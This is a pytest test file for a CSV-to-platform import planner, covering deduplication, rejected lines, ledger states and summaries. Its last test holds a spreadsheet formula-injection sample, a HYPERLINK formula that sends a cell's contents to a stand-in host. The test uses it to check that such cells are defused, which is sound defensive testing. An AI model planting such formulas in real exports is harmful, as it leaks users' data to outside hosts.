from __future__ import annotations

import csv
import hashlib
import json
import os
import shlex
import shutil
import subprocess
import sys
from collections.abc import Iterator
from datetime import UTC, datetime
from pathlib import Path
from typing import Any
from unittest import mock
from urllib.parse import urlsplit

import duckdb
import msgspec
import pyarrow as pa
import pytest

from orderbridge.pipelines.cli.plan import summary_lines
from orderbridge.pipelines.cli.process import prepare_environment
from orderbridge.pipelines.ledger.model import StateChange
from orderbridge.pipelines.ledger.store import Ledger
from orderbridge.pipelines.mapping import load
from orderbridge.pipelines.plan import dedupe, make
from orderbridge.pipelines.plan.current_state import known_price_lists
from orderbridge.pipelines.plan.make import PlanOptions, PlanResult, make_plan
from orderbridge.pipelines.plan.model import Plan, PlannedOperation
from orderbridge.pipelines.plan.outcomes import Reason
from orderbridge.pipelines.plan.summary import PlanStatistics, summary
from orderbridge.pipelines.plan.suspicious import SuspiciousValues
from orderbridge.pipelines.push.plan_ledger import PlanLedger
from orderbridge.pipelines.warehouse import ops
from orderbridge.pipelines.warehouse.source import record_source
from orderbridge.sources.errors import BridgeError, ExitCode, UsageError
from orderbridge.sources.files import encoding
from orderbridge.sources.files.formulas import neutralize
from orderbridge.sources.kinds import KindName
from orderbridge.sources.settings import DataSource
from tests.pipelines.bridge import Bridge, command, pulled
from tests.spreadsheet import spreadsheet_rows

FEW: dict[str, Any] = {"customers": 6, "orders": 0, "promotions": 1, "price_lists": 1}
HOST = "http://127.0.0.1:9"
VARIANTS = """
kind = "variants"
[numbers]
decimal = ","
thousands = "."
[columns]
"Producto" = "productId"
"Variante" = "variantId"
"Código" = "sku"
"PVP" = "price"
"Existencias" = "stock"
"""
CHANGES = VARIANTS.replace(
    '"Existencias" = "stock"', '"Existencias" = { field = "stock", change = true }'
)
CUSTOMERS = """
kind = "customers"
[columns]
"Código" = "erpCode"
"Nombre" = "firstName"
"Correo" = "email"
"Teléfono" = "phone"
"NIF" = "documents[0].number"
"""


@pytest.fixture
def work(tmp_path: Path) -> Path:
    """A folder to plan in, and settings of a sandbox that nobody asks anything."""
    os.environ.update(
        SOURCES__LEGACY__BASE_URL=HOST,
        SOURCES__LEGACY__API_KEY="none-is-needed",
        SOURCES__LEGACY__ENVIRONMENT="sandbox",
        SOURCES__LEGACY__LOGIN_MODE="email",
        WAREHOUSE__PATH=str(tmp_path / "warehouse.duckdb"),
        DLT_PROJECT_DIR=str(tmp_path),
    )
    prepare_environment()
    os.chdir(tmp_path)
    return tmp_path


def planned(
    kind: KindName, folder: Path, rows: str, mapping: str | None = None, **more: Any
) -> PlanResult:
    """The plan of a file and its mapping."""
    (folder / "in.csv").write_bytes(rows.replace("\n", "\r\n").encode("cp1252"))
    if mapping is not None:
        (folder / "mapping.toml").write_text(mapping, "utf-8")
    return make_plan(
        PlanOptions(kind, folder / "in.csv", folder / "mapping.toml" if mapping else None, **more)
    )


def variants(folder: Path, rows: str, mapping: str = VARIANTS, **more: Any) -> PlanResult:
    return planned(
        "variants", folder, "Producto;Variante;Código;PVP;Existencias\n" + rows, mapping, **more
    )


def operations(made: PlanResult) -> list[PlannedOperation]:
    return list(Plan(made.folder).operations())


def bodies(made: PlanResult) -> list[dict[str, Any]]:
    return [one.body for one in operations(made)]


def fates(made: PlanResult) -> dict[int, tuple[str, str]]:
    """Outcome and code of each line that is not sent."""
    return {line.line: (line.outcome, line.code) for line in Plan(made.folder).unsent_lines()}


def summary_of(made: PlanResult) -> str:
    return (made.folder / "summary.md").read_text("utf-8")


def suspicious(made: PlanResult) -> list[tuple[str, str, int, list[int]]]:
    return [(one.field, one.code, one.lines, list(one.first)) for one in made.statistics.suspicious]


def files_of(folder: Path) -> dict[str, bytes]:
    return {path.name: path.read_bytes() for path in sorted(folder.iterdir()) if path.is_file()}


def confirmed(product: str, variant: str, **fields: Any) -> None:
    """The ledger says that the platform has these."""
    with Ledger.open(Path("ledger.sqlite")) as ledger, ledger.transaction() as connection:
        for name, value in fields.items():
            connection.execute(
                "INSERT INTO confirmed VALUES (?, ?, ?, ?, 1.0, 'before', 0)",
                [HOST, f"/products/{product}/variants/{variant}", name, json.dumps(value)],
            )


def pushed(made: PlanResult, *changes: StateChange, at: float = 2.0, **manifest: str) -> None:
    """The ledger says that a push led the plan's operations through these states."""
    plan = Plan(made.folder)
    plan.manifest = msgspec.structs.replace(plan.manifest, **manifest)
    with Ledger.open(Path("ledger.sqlite")) as ledger:
        PlanLedger.record(ledger, plan, 1.0).commit(changes, at)


def sent(number: int, *states: Any) -> list[StateChange]:
    doubts = {"in_doubt": 7.0}
    return [
        StateChange(number, state, doubt_at=doubts.get(state)) for state in ("in_flight", *states)
    ]


def test_rows_keep_their_own_fields_and_those_that_may_add_travel_apart(
    work: Path,
) -> None:
    made = variants(
        work, "1;11;A;;\n2;22;;19.367,25;\n3;33;;;7\n4;44;;;\n5;55;00038;1,00;2\n", batch_size=2
    )
    assert [
        (one.path[-2:], one.body, one.repeatable, one.lines, one.id, one.batch)
        for one in operations(made)
    ] == [
        ("11", {"sku": "A"}, True, (2,), 1, 1),
        ("22", {"price": 19367.25}, False, (3,), 2, 1),
        ("33", {"stock": 7}, False, (4,), 3, 2),
        ("55", {"sku": "00038"}, True, (6,), 4, 2),
        ("55", {"price": 1, "stock": 2}, False, (6,), 5, 3),
    ]
    assert {(one.method, one.path == one.target) for one in operations(made)} == {("PATCH", True)}
    assert b'"price":19367.25}' in (made.folder / "operations.jsonl").read_bytes()
    manifest = Plan(made.folder).manifest
    assert (
        manifest.lines,
        manifest.sent,
        manifest.outcomes["patch"],
        manifest.outcomes["skipped"],
    ) == (5, 4, 4, 1)


def test_only_what_differs_from_the_last_confirmed_is_sent_and_jumps_are_shown(
    work: Path,
) -> None:
    for variant in ("1001", "1002"):
        confirmed("1", variant, sku="00038", price=18.0, stock=7)
    confirmed("1", "1003", sku="a")
    made = variants(work, "1;1001;00038;18,00;7\n1;1002;00038;1.800,00;7\n1;1003;a;;\n1;1003;a;;\n")
    (one,) = operations(made)
    assert (one.path, one.body) == ("/products/1/variants/1002", {"price": 1800})
    assert fates(made) == dict.fromkeys((2, 4, 5), ("unchanged", ""))
    assert "assumed" in (made.folder / "unchanged.csv").read_text()
    jumps = [
        tuple(jump[name] for name in ("line", "before", "now", "power"))
        for jump in made.statistics.jumps
    ]
    assert jumps == [(3, "18.0", "1800", 2)]
    assert "- line 3: 18.0 → 1800 (about ×100)" in summary_of(made)
    with mock.patch("orderbridge.pipelines.plan.decide.MAX_JUMPS", 1):
        assert "- and 1 more\n" in summary_of(
            variants(work, "1;1001;a;1.800,00;\n1;1002;a;1.800,00;\n")
        )
    nothing = variants(work, "1;1001;00038;18,00;7\n")
    assert "a stock that is as last confirmed is not sent" in summary_of(nothing)
    assert (nothing.manifest.operations, "- nothing to send\n" in summary_of(nothing)) == (0, True)


def test_a_value_that_may_have_been_overwritten_since_is_planned_and_sent_again(work: Path) -> None:
    found: list[str] = []
    for code in "ababa":
        made = variants(work, f"1;1;{code};;\n", out=work / f"{len(found)}")
        (one,) = operations(made)
        found.append(made.manifest.plan_id)
        if code == "a":
            confirmed = StateChange(1, "confirmed", values={(one.path, "sku"): '"a"'})
            pushed(made, StateChange(1, "in_flight"), confirmed)
        else:
            pushed(made, *sent(1, "in_doubt", "abandoned"))
    assert len({*found}) == len(found), "a plan that was pushed would send nothing"
    waiting, doubtful = (variants(work, f"1;1;{code};;\n", out=work / code) for code in "cd")
    pushed(waiting)
    pushed(doubtful, *sent(1, "in_doubt"))
    with Ledger.open(Path("ledger.sqlite"), readonly=True) as ledger:
        assert ledger.superseded(waiting.manifest.plan_id) == {1: str(doubtful.folder)}
        assert ledger.superseded(doubtful.manifest.plan_id) == {}


def test_a_stock_that_is_set_is_sent_although_it_is_as_last_confirmed(work: Path) -> None:
    os.environ["SOURCES__LEGACY__STOCK_SEMANTICS"] = "set"
    confirmed("1", "1001", sku="00038", price=18.0, stock=39)

    def sent_as(mapping: str = VARIANTS, **more: Any) -> list[dict[str, Any]]:
        shutil.rmtree("out", ignore_errors=True)
        return bodies(variants(work, "1;1001;00038;18,00;39\n", mapping, out=Path("out"), **more))

    changed = VARIANTS.replace('"stock"', '{ field = "stock", send = "changed" }')
    assert sent_as() == [{"stock": 39}]
    assert sent_as(changed) == []
    assert sent_as(changed.replace('"price"', '{ field = "price", send = "always" }')) == [
        {"price": 18}
    ]
    assert sent_as(changed, send_all=True) == [{"sku": "00038", "stock": 39}, {"price": 18}]
    with pytest.raises(
        UsageError, match="'Existencias': only values of updates that replace others"
    ):
        sent_as(changed.replace("send =", "change = true, send ="))


def test_changes_are_sent_as_they_stand_and_zeros_left_out(work: Path) -> None:
    os.environ["SOURCES__LEGACY__STOCK_SEMANTICS"] = "increment"
    confirmed("1", "1001", stock=7)
    made = variants(work, "1;1001;;;7\n1;1002;;;0\n1;1003;;;-2\n", CHANGES)
    assert [(one.path[-4:], one.body, one.repeatable) for one in operations(made)] == [
        ("1001", {"stock": 7}, False),
        ("1003", {"stock": -2}, False),
    ]
    assert (fates(made), suspicious(made)) == ({3: ("skipped", "")}, [])
    assert suspicious(variants(work, "1;1;a;1;3\n" * 3, CHANGES)) == [
        ("stock", "merged", 2, [3, 4])
    ]
    with pytest.raises(UsageError, match="change"):
        variants(work, "1;1001;;;7\n")


def test_changes_that_an_earlier_push_may_have_sent_are_pointed_out(work: Path) -> None:
    """The platform adds changes: the same file, planned and pushed again, adds them twice, or is not sent again."""
    os.environ["SOURCES__LEGACY__STOCK_SEMANTICS"] = "increment"

    def changes(rows: str) -> PlanResult:
        return variants(work, rows, CHANGES)

    rows = "1;1001;;;7\n1;1002;;;2\n"
    first = changes(rows)
    assert first.earlier_changes is None
    pushed(first, *sent(1, "confirmed"), *sent(2, "rejected"))
    pushed(first, *sent(2, "confirmed"), plan_id="foreign", host="https://other.test")
    folder = str(first.folder.absolute())
    other = changes("1;1001;;;7\n1;1002;;;3\n")
    assert (other.earlier_changes, changes(rows).earlier_changes) == (
        (1, folder, False),
        (1, folder, True),
    )
    assert changes("1;1002;;;3\n").earlier_changes is None
    pushed(other, *sent(2, "confirmed"), at=6.0)  # only 1001 was sent by the first plan
    assert changes(rows).earlier_changes == (1, str(other.folder.absolute()), False)
    given_up = changes("1;1003;;;4\n1;1004;;;4\n")
    # the second was not sent
    pushed(given_up, *sent(1, "in_doubt", "abandoned"), StateChange(2, "abandoned"))
    assert changes("1;1003;;;5\n1;1004;;;5\n").earlier_changes == (
        1,
        str(given_up.folder.absolute()),
        False,
    )
    everything = variants(work, "1;1005;;;1\n", CHANGES, send_all=True)
    pushed(everything, *sent(1, "confirmed"))
    again = variants(work, "1;1005;;;1\n", CHANGES, send_all=True)
    assert again.manifest.plan_id == everything.manifest.plan_id, (
        "an increment is never sent by another plan"
    )


def test_lines_that_say_the_same_are_sent_once_and_contradictions_not_at_all(work: Path) -> None:
    made = variants(
        work, "1;3;c;3,5;3\n1;1;a;1,5;1\n1;2;b;2,5;2\n1;1;a;1,50;1\n1;2;b;2,5;3\n1;2;b;2,5;2\n"
    )
    assert {one.path for one in operations(made)} == {
        "/products/1/variants/1",
        "/products/1/variants/3",
    }
    conflicting = ("rejected", "conflicting_lines")
    assert fates(made) == {4: conflicting, 5: ("merged", ""), 6: conflicting, 7: conflicting}
    lines = list(Plan(made.folder).unsent_lines())
    assert [line.same_as for line in lines] == [None, 3, None, None]
    assert lines[0].words == "line 6 has the same Producto, Variante, but another Existencias"
    assert (made.exit_code, made.manifest.sent, made.manifest.lines) == (5, 2, 6)
    lost = mock.patch.object(dedupe._Duplicates, "reject")
    with lost, pytest.raises(BridgeError, match="2 lines were read, but 0 have an outcome"):
        variants(work, "1;2;b;2,5;2\n1;2;b;2,5;3\n")
    mapping = VARIANTS + '"Color" = "attributes.Color"\n"Talla" = "attributes.Talla"\n'
    rows = "Producto;Variante;Código;PVP;Existencias;Color;Talla\n1;1;a;1;1;R;S\n1;1;a;1;1;R;M\n"
    made = planned("variants", work, rows, mapping)
    assert [line.words.rpartition("another ")[2] for line in Plan(made.folder).unsent_lines()] == [
        "Talla"
    ] * 2
    assert (
        "the same key with other values: line 3 has the same Producto"
        in made.statistics.reasons[0].words
    )


def test_a_corrected_reject_file_goes_through_and_is_read_as_the_whole_file_was(
    work: Path,
) -> None:
    mapping = VARIANTS.replace('decimal = ","\nthousands = "."\n', "").replace("PVP", "PVP | IVA")
    rows = "Producto;Variante;Código;PVP | IVA;Existencias\n1;1;Ñ1;1.234,5;x\n1;2;b;1.234;x\n1;3;c;3,5;3\n1;4;#N/A;y;\n"
    # the first price proves how they are written
    made = planned("variants", work, rows, mapping, out=work / "first")
    assert (made.exit_code, [reason.lines for reason in made.statistics.reasons]) == (5, [2, 1, 1])
    assert {reason.field for reason in made.statistics.reasons} == {"stock", "sku", "price"}
    header, _, line, *_ = (made.folder / "rejects.csv").read_bytes().splitlines(keepends=True)
    assert (
        header
        == "Producto;Variante;Código;PVP | IVA;Existencias;line;field;code;words\r\n".encode(
            "cp1252"
        )
    )
    (work / "fixed.csv").write_bytes(header + line.replace(b";x;", b";2;"))
    again = make_plan(PlanOptions("variants", work / "fixed.csv", made.folder / "mapping.toml"))
    assert (again.exit_code, bodies(again)) == (0, [{"sku": "b"}, {"price": 1234, "stock": 2}])
    command = f"plan variants {made.folder}/rejects.csv --mapping {made.folder}/mapping.toml"
    assert command in summary(made.manifest, made.statistics, made.folder)


def test_the_words_of_a_rejected_cell_show_it_in_private_files_only(work: Path) -> None:
    long = "consultar precio " * 5
    rows = f"1;1;a;12 uds | 2;1\n1;2;b;{long};1\n1;3;c;5»: 6;1\n"
    made = variants(work, rows, VARIANTS)
    shown = [line.words for line in Plan(made.folder).unsent_lines()]
    assert shown[0].startswith("PVP «12 uds / 2»: not a number (")
    assert shown[1].startswith("PVP «consultar precio consultar precio consul…»: ")
    assert "PVP «12 uds / 2»: not" in (made.folder / "rejects.csv").read_text("cp1252")
    [reason] = made.statistics.reasons
    assert reason.words.startswith("PVP: not a number (")
    first = variants(work, "1;3;c;5»: 6;1\n", VARIANTS, out=work / "other")
    assert first.statistics.reasons[0].words == reason.words


def test_corrected_rejects_have_the_cells_that_were_filled_from_lines_above(work: Path) -> None:
    mapping = VARIANTS.replace(
        "[columns]", '[rows]\nfill_down = ["PVP"]\nfill_within = ["Producto"]\n[columns]'
    )
    rows = "1;1;a;5;1\n1;2;b;;x\n1;3;c;7;1\n1;4;d;;x\n2;5;e;;x\n3;6;f;8;9;9\n3;7;g;;1\n"
    rejects = variants(work, rows, mapping).folder / "rejects.csv"
    _, *lines = csv.reader(rejects.read_text("cp1252").splitlines(), delimiter=";")
    assert [cells[3] for cells in lines] == ["5", "7", "", "8", ""]
    assert [cells[-2] for cells in lines] == [
        "not_a_number",
        "not_a_number",
        "not_a_number",
        "too_long",
        "fill_torn",
    ]
    rejects.write_bytes(rejects.read_bytes().replace(b";x;", b";2;").replace(b";8;9;9;", b";;9;"))
    corrected = make_plan(PlanOptions("variants", rejects, work / "mapping.toml"))
    sent = {
        (one.path[-1], name): value
        for one in operations(corrected)
        for name, value in one.body.items()
    }
    assert {key: value for key, value in sent.items() if key[1] == "price"} == {
        ("2", "price"): 5,
        ("4", "price"): 7,
    }
    assert {path for path, _ in sent} == {"2", "4", "5"}
    assert fates(corrected) == {5: ("rejected", "fill_torn"), 6: ("rejected", "fill_torn")}


def test_skipped_lines_a_rare_value_and_notes_are_reported_in_the_summary(work: Path) -> None:
    made = planned(
        "variants", work, "productId,variantId,sku\n1,1,A\xad\n" + "1,2,\n" * 6, passwords="mail"
    )
    assert fates(made) == dict.fromkeys(range(3, 9), ("skipped", ""))
    assert "\n- 6 lines skipped: no field has a value (lines 3, 4, 5, 6, 7…)\n" in summary_of(made)
    assert "- 1 line: sku contains invisible or control characters (line 2)\n" in summary_of(made)
    assert "\xad" not in summary_of(made)
    assert load(made.folder / "mapping.toml").generate_passwords is None, (
        "variants have no passwords"
    )
    notes = [f"column {number}: decimal comma" for number in range(12)]
    text = summary(made.manifest, PlanStatistics(1, notes=notes), Path())
    assert [line for line in text.splitlines() if "decimal comma" in line] == [
        f"- {note}" for note in notes
    ]


def test_the_same_input_gives_the_same_bytes_anywhere_and_at_any_time(work: Path) -> None:
    rows = (
        "".join(f"1;{n};s{n};{n},5;{n}\n" for n in range(30))
        + "1;3;x;1,5;1\n1;4;s4;4,5;4\n1;99;x;no;1\n"
    )
    expected = files_of(variants(work, rows, out=work / "first").folder)
    names = "plan.json operations.jsonl mapping.toml lines.csv rejects.csv unchanged.csv differences.csv summary.md"
    assert set(expected) == {*names.split(), ".gitignore"}
    (elsewhere := work / "elsewhere").mkdir()
    arguments = ["plan", "variants", "../in.csv", "--mapping", "../mapping.toml", "--out", "plan"]
    env = {**os.environ, "PYTHONHASHSEED": "2", "TZ": "Asia/Tokyo"}
    done = subprocess.run(
        [sys.executable, "-m", "orderbridge.pipelines.cli", *arguments],
        env=env,
        cwd=elsewhere,
        check=False,
    )
    assert done.returncode == 5
    assert files_of(elsewhere / "plan") == expected


def test_a_plan_and_a_preview_load_neither_the_warehouse_nor_http(work: Path) -> None:
    variants(work, "1;1;a;5;1\n")
    program = """
import sys
from orderbridge.pipelines.cli.main import orderbridge
for command in ("preview in.csv", "plan variants in.csv"):
    orderbridge(command.split(), standalone_mode=False)
sys.exit(" ".join({"dlt", "duckdb", "httpx", "pygments"} & sys.modules.keys()))
"""
    done = subprocess.run(
        [sys.executable, "-c", program], cwd=work, capture_output=True, text=True, check=False
    )
    assert done.stderr.splitlines()[-1] == "", "they take half of the time of a start"


def test_what_a_plan_depends_on_makes_another_plan_and_nothing_else_does(work: Path) -> None:
    made = [variants(work, "1;1;a;;\n")]
    made.append(variants(work, "1;1;b;;\n"))
    made.append(variants(work, "1;1;b;;\n", VARIANTS + "# another\n"))
    os.environ["SOURCES__LEGACY__STOCK_SEMANTICS"] = "set"
    made.append(variants(work, "1;1;b;;\n", VARIANTS + "# another\n"))
    assert made[-1].manifest.semantics == {"price": "unknown", "stock": "set"}
    assert (
        len({one.manifest.plan_id for one in made}) == len({one.folder.name for one in made}) == 4
    )
    os.environ["SOURCES__LEGACY__LOGIN_MODE"] = "code"  # variants do not log in
    (made[-1].folder / "rejects.csv").write_text("corrected")
    again = variants(work, "1;1;b;;\n", VARIANTS + "# another\n")
    assert (again.folder, again.is_new, made[-1].is_new) == (made[-1].folder, False, True)
    manifest = Plan(again.folder).manifest
    for file, name in ((manifest.input, "in.csv"), (manifest.mapping, "mapping.toml")):
        assert file is not None
        assert file.path == str((work / name).resolve())
        assert file.sha256 == hashlib.sha256((work / name).read_bytes()).hexdigest()
    assert (manifest.host, manifest.environment, manifest.read) == (HOST, "sandbox", None)


def test_the_plan_of_another_organization_is_kept_beside(work: Path) -> None:
    first = variants(work, "1;1;a;;\n")
    (first.folder / "plan.json").write_text("{}")
    again, third = (variants(work, "1;1;a;;\n") for _ in range(2))
    assert (again.folder.name, again.is_new) == (f"{first.folder.name}-2", True)
    assert (third.folder, third.is_new) == (again.folder, False)


def test_the_hash_of_an_input_is_that_of_all_its_bytes(work: Path) -> None:
    with mock.patch.object(encoding, "SAMPLE", 40), mock.patch.object(encoding, "CHUNK_BYTES", 40):
        made = variants(
            work, "1;1;a;1,5;\n" * 8, VARIANTS.replace('decimal = ","\nthousands = "."', "")
        )
    assert made.manifest.input.sha256 == hashlib.sha256((work / "in.csv").read_bytes()).hexdigest()
    assert made.manifest.lines == 8


@pytest.mark.parametrize(
    ("step", "name"), [("open_inputs", "in.csv"), ("partition", "mapping.toml")]
)
def test_a_file_that_changes_while_it_is_planned_is_no_plan(
    work: Path, step: str, name: str
) -> None:
    do = getattr(make, step)

    def changed(*given: Any, **options: Any) -> Any:
        done = do(*given, **options)
        (work / name).write_bytes((work / name).read_bytes() + b"\n")
        return done

    with (
        mock.patch.object(make, step, changed),
        pytest.raises(UsageError, match="was changed while it was planned"),
    ):
        variants(work, "1;1;a;;\n")
    assert sorted(path.name for path in work.iterdir()) == ["in.csv", "mapping.toml"]


def test_a_plan_names_the_organization_of_a_warehouse_with_the_data_of_its_host(work: Path) -> None:
    """Also of a kind that is not compared with the warehouse. Its id stays: changes of stock are not added twice."""
    found = [variants(work, "1;1;a;;\n", out=work / "unknown").manifest]
    for number, host in enumerate((urlsplit(HOST).netloc, None, "other.example", "no database")):
        path = work / f"{number}.duckdb"
        if host == "no database":
            path.write_text(host)
        else:
            with duckdb.connect(str(path)) as connection:
                ops.create_missing(connection)
                source = DataSource(host, host, "sandbox", "org-2")
                record_source(connection, source, "run", datetime(2026, 1, 1, tzinfo=UTC))
        os.environ["WAREHOUSE__PATH"] = str(path)
        found.append(variants(work, "1;1;a;;\n", out=work / str(number)).manifest)
    assert [manifest.organization for manifest in found] == [None, "org-2", "org-2", None, None]
    assert len({manifest.plan_id for manifest in found}) == 1


SITES = "name,isDefault,location.line,code"


@pytest.mark.parametrize(
    ("kind", "rows", "sent", "others"),
    [
        ("warehouses",
         f"{SITES}\nSur,false,C 1,S\nSur,false,C 1,T\nEste,false,C 1,\nEste,no,C 2,\n",
         ["/logistics/warehouses Sur"] * 2, dict.fromkeys((4, 5), ("rejected", "conflicting_lines"))),
        ("subcategories", "categoryId;name\n7;Té\n7;Café\na-1;Té\n7;Té\n",
         [f"/categories/{key}/subcategories {name}" for key, name in ((7, "Té"), (7, "Café"), ("a-1", "Té"))],
         {5: ("merged", "")}),
    ],
)  # fmt: skip
def test_creates_are_told_apart_by_their_codes_or_by_name_and_place(
    work: Path, kind: KindName, rows: str, sent: list[str], others: dict[int, tuple[str, str]]
) -> None:
    made = planned(kind, work, rows)
    assert [f"{one.path} {one.body['name']}" for one in operations(made)] == sent
    assert not any(one.repeatable for one in operations(made))
    assert fates(made) == others


@pytest.mark.parametrize(
    ("kind", "head", "before", "after", "fate"),
    [
        ("subcategories", "categoryId,name,order", "7,Te,1", "8,Te,1", None),
        ("warehouses", SITES, "Sur,false,C 1,S", "Sur,false,C 1,T", None),
        ("warehouses", SITES, "Sur,false,C 1,", "Sur,false,C 2,", "exists_differs"),
    ],
)
def test_what_was_created_before_is_not_created_again(
    work: Path, kind: KindName, head: str, before: str, after: str, fate: str | None
) -> None:
    pushed(planned(kind, work, f"{head}\n{before}\n", out=work / "first"), *sent(1, "confirmed"))
    second = planned(kind, work, f"{head}\n{after}\n", out=work / "second")
    assert fates(second) == ({2: (fate, "")} if fate else {})
    assert len(operations(second)) == (0 if fate else 1)
    assert ("created before with other values" in summary_of(second)) == (fate == "exists_differs")


@pytest.fixture
def platform(tmp_path: Path) -> Iterator[Bridge]:
    """A sandbox that was pulled, and a folder to plan in."""
    with pulled(tmp_path, **FEW) as made:
        os.environ["SOURCES__LEGACY__LOGIN_MODE"] = "email"
        (work := made.folder.parent / "work").mkdir()
        os.chdir(work)
        yield made


def customers(rows: str, mapping: str = CUSTOMERS, **more: Any) -> PlanResult:
    rows = "Código;Nombre;Correo;Teléfono;NIF\n" + rows
    return planned("customers", Path.cwd(), rows, mapping, **{"passwords": "mail", **more})


def update(platform: Bridge, *statements: str) -> None:
    with duckdb.connect(platform.path) as warehouse:
        for statement in statements:
            warehouse.execute(statement)


def test_a_plan_that_is_sent_at_once_is_shown_without_what_its_result_repeats(
    platform: Bridge,
) -> None:
    known = platform.one("SELECT email FROM raw.customers WHERE email <> '' LIMIT 1")
    made = customers(f"L1;Ana;ana@example.com;;\nL2;Eva;{known};;\nL3;Luz;;;\n")
    shown, brief = (
        "\n".join(summary_lines(made, is_sent_at_once=is_brief)) for is_brief in (False, True)
    )
    sent = "to send: 1 customer to create"
    assert sent in shown
    assert sent in brief
    assert "(line 4)\n    - 1 line: Correo: is required" in shown
    assert "1 line rejected: Correo: is required (line 4)\n" in brief
    for words in ("on the platform", "Plan folder: "):
        assert words in shown
        assert words not in brief.partition("\n")[2]


def test_customers_are_sorted_by_what_the_platform_has(platform: Bridge) -> None:
    first, second, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
    rows = f"NEW1;Ana;ana@example.com;;N1\n{first['erp_code']};{first['first_name']};{first['email'].upper()};;\n"
    rows += f"{second['erp_code']};Otra;{second['email']};;\nNEW1;Ana;ana@example.com;;N1\n"
    made = customers(rows)
    (one,) = operations(made)
    assert (one.method, one.path, one.target, one.password) == (
        "POST",
        "/customers",
        "customers/2",
        "mailed",
    )
    assert one.keys == {"erpCode": "NEW1", "email": "ana@example.com"}
    assert one.body == {
        "erpCode": "NEW1", "firstName": "Ana", "email": "ana@example.com",
        "notification": {"send": True, "withCredentials": True}, "documents": [{"number": "N1"}],
    }  # fmt: skip
    assert fates(made) == {3: ("exists_same", ""), 4: ("exists_differs", ""), 5: ("merged", "")}
    (reported,) = spreadsheet_rows(made.folder / "differences.csv")
    difference = ("4", "exists_differs", second["id"], "firstName", "Otra", second["first_name"])
    assert tuple(reported.values()) == difference
    assert (made.exit_code, suspicious(made), made.manifest.messages) == (0, [], 1)
    assert "will send 1 message" in summary_of(made)
    assert made.manifest.read is not None
    assert (made.manifest.read.rows, made.manifest.organization) == (6, "Distribuidora Peña S.A.C.")
    silent, notified = (
        customers(
            f"{first['erp_code']};Ana;{second['email']};;X\nA\0;Ana;a@x.es;;\nB;Bea;b@x.es;;\n",
            **more,
        )
        for more in ({"passwords": "file"}, {"passwords": "file", "notify": True})
    )
    assert fates(silent) == {2: ("ambiguous", ""), 3: ("rejected", "nul")}
    assert [made.manifest.messages for made in (silent, notified)] == [0, 1]
    assert bodies(silent)[0]["notification"] == {"send": False, "withCredentials": False}
    assert bodies(notified)[0]["notification"] == {"send": True, "withCredentials": False}
    assert operations(silent)[0].password == "stored"
    assert "No customer gets a message" in summary_of(silent)


def test_new_customers_that_may_be_known_ones_are_pointed_out(platform: Bridge) -> None:
    first, second, *_ = platform.dicts("SELECT * FROM raw.customers ORDER BY id")
    known = platform.one("SELECT id FROM raw.price_lists")
    update(platform, f"UPDATE raw.customers SET _missing_since = now() WHERE id = '{second['id']}'")
    alike = ("007", "7", "Cé-1", "CÉ1", "X\xad9", "x9", "-", "70", "700")
    new = [(f"0{first['erp_code']}", ""), *((code, "") for code in alike)]  # lines 2 to 11
    new += [("L1", ""), ("L2", known), ("L3", "99999"), ("L4", "-1"), (second["erp_code"], "")]
    rows = "".join(f"{code};Ana;a{n}@example.com;{key};\n" for n, (code, key) in enumerate(new))
    rows += f"NEW;Eva;{second['email']};;\n;Eva;eva@example.com;;\n"
    listed = CUSTOMERS.replace('"phone"', '"priceListId"')
    made = customers(rows, listed)
    assert made.manifest.operations == len(new) + 2
    assert {
        ("erpCode", "nearly_known", 1, (2,)), ("erpCode", "nearly_repeated", 6, (3, 4, 5, 6, 7)),
        ("priceListId", "not_listed", 2, (14, 15)), ("", "was_there", 2, (16, 17)),
        ("erpCode", "code_missing", 1, (18,)),
    } < {(*others, tuple(lines)) for *others, lines in suspicious(made)}  # fmt: skip
    assert (
        "erpCode differs from one on the platform in zeros, case or punctuation only"
        in summary_of(made)
    )
    for change in ("raw.price_lists SET id = 'pl_1'", "ops.coverage SET verdict = 'unproven'"):
        update(platform, f"UPDATE {change}")
        made = customers(rows, listed)
        assert "priceListId" not in {field for field, *_ in suspicious(made)}, change
        update(platform, f"UPDATE raw.price_lists SET id = '{known}'")
    gap = "price_lists: unproven (orderbridge pull price_lists)"
    assert f"price lists -1, {known}, 99999 were not checked: {gap}" in summary_of(made)


def test_price_lists_are_checked_only_where_those_of_all_known_customers_are_listed(
    platform: Bridge, monkeypatch: pytest.MonkeyPatch
) -> None:
    known = platform.one("SELECT id FROM raw.price_lists")
    listed = CUSTOMERS.replace('"phone"', '"priceListId"')

    def checked() -> tuple[bool, str]:
        made = customers(f"L1;Ana;a@example.com;{known};\nL2;Eva;e@example.com;99999;\n", listed)
        assert made.manifest.operations == 2
        notes = [note for note in made.statistics.notes if "price lists" in note]
        return ("priceListId", "not_listed", 1, [3]) in suspicious(made), "".join(notes)

    assert checked() == (True, "")
    of_platform = known_price_lists()
    assert [of_platform.has_all([id_, "", known]) for id_ in (known, "99999")] == [True, False]
    update(
        platform,
        "UPDATE raw.customers SET price_list_id = '4711' WHERE id = (SELECT min(id) FROM raw.customers)",
    )
    assert not known_price_lists().has_all([known])
    gap = "customers on the platform have other ones than those listed"
    assert checked() == (False, f"price lists 1, 99999 were not checked: {gap}")
    one = customers("L2;Eva;e@example.com;99999;\n", listed)
    assert f"price list 99999 was not checked: {gap}" in summary_of(one)
    update(platform, f"UPDATE raw.customers SET price_list_id = '{known}'")
    assert checked() == (True, "")
    monkeypatch.delenv("SOURCES__PUBLIC_V1__BASE_URL")
    monkeypatch.delenv("SOURCES__PUBLIC_V1__API_KEY")
    is_checked, note = checked()
    assert not is_checked
    assert note.endswith("sources.public_v1 is not set, whose API lists them")


def test_what_others_typed_is_counted_and_no_cell_of_a_plan_runs_in_a_spreadsheet(
    platform: Bridge,
) -> None:
    """A row that is refused; and a formula as a name, there and in the file."""
    formula = '=HYPERLINK("http://x.test/?"&A1)'
    quoted = formula.replace('"', '""')
    platform.platform.state.add("customers", {"erpCode": "E007", "birthdate": 7})
    platform.platform.state.add(
        "customers", {"erpCode": "E1", "firstName": formula, "email": "e1@x.es"}
    )
    platform.pull("customers")
    made = customers(
        f'E1;Ana;e1@x.es;;\nE2;-5;no;;\nE3;"{quoted}";;;\nE007;Ana;ana@example.com;;N1\n'
    )
    assert made.manifest.read is not None
    assert (made.manifest.read.rows, made.manifest.read.refused) == (7, 1)
    reported = (
        "row of the platform's list is in quarantine and was not compared (see ops.quarantine).\n"
    )
    assert f"\n1 {reported}" in summary_of(made)
    assert "the push looks up each new customer again before it sends" in summary_of(made)
